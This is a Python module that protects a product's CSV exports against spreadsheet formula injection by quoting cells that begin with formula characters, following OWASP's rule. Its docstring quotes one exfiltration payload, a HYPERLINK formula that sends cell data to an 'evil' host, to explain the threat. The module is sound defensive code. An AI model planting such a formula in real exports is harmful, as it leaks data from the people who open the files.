"""CSV cells that a spreadsheet cannot run: every CSV the product writes goes through this module.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets, so a tenant's note such as ``=HYPERLINK("https://evil/?"&A1)`` in an export would run in
whoever opens it. The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a
cell with a single quote, which the spreadsheet takes as "this is text" and does not show. The full-width
forms of the four signs are included because some spreadsheet imports fold them to the ASCII ones.

Only ``str`` cells are touched: numbers and dates the product computes are never formulas, and a negative
count must stay a number. The prefix is reversible, so the project's own importers read back exactly what was
exported (``restore_cell``): a cell that already starts with a quote gets a second one on the way out, and
importers remove one quote in front of a formula character or another quote.

Use ``csv_writer`` (a file) or ``csv_stream`` (lines for a streaming response) instead of ``csv.writer``;
``core/tests/test_csv_writers_are_safe.py`` fails on a ``csv.writer`` anywhere else in the apps.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

# OWASP's list, plus the full-width equals, plus, minus and commercial at (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
_ESCAPED = FORMULA_TRIGGERS | {QUOTE}


def neutralise_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV cell: text that would start a formula gets a leading quote."""
    if isinstance(value, str) and value and value[0] in _ESCAPED:
        return QUOTE + value
    return value


def restore_cell(value: str) -> str:
    """The exact inverse of ``neutralise_cell`` for text: what the exporting side had before the quote."""
    if len(value) > 1 and value[0] == QUOTE and value[1] in _ESCAPED:
        return value[1:]
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in row]


def restore_row(row: Iterable[str]) -> list[str]:
    return [restore_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` with every cell neutralised; same ``writerow``/``writerows`` and return values."""

    def __init__(self, file: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)
        # Python 3.12's writer quotes a cell only for the characters of its own line terminator, so with
        # "\n" a cell holding a bare "\r" goes out unquoted and splits the row when read back. Such rows are
        # written with every cell quoted instead.
        terminator = self._writer.dialect.lineterminator
        self._unsafe = "".join(c for c in "\r\n" if c not in terminator)
        quote_all = {**fmtparams, "quoting": csv.QUOTE_ALL}
        self._quote_all = csv.writer(file, **quote_all) if self._unsafe else None

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = neutralise_row(row)
        if self._quote_all is not None and any(
            isinstance(c, str) and any(u in c for u in self._unsafe) for c in cells
        ):
            return self._quote_all.writerow(cells)
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: Any, **fmtparams: Any) -> SafeWriter:
    """A neutralising CSV writer over ``file``; takes the same format parameters as ``csv.writer``."""
    return SafeWriter(file, **fmtparams)


class _Echo:
    """A file-like object whose write() returns the line, so the writer can feed a streaming response."""

    def write(self, value: str) -> str:
        return value


def csv_stream(rows: Iterable[Iterable[Any]], **fmtparams: Any) -> Iterator[str]:
    """One neutralised CSV line per row, for ``StreamingHttpResponse``; rows are consumed lazily."""
    writer = SafeWriter(_Echo(), **fmtparams)
    for row in rows:
        yield writer.writerow(row)
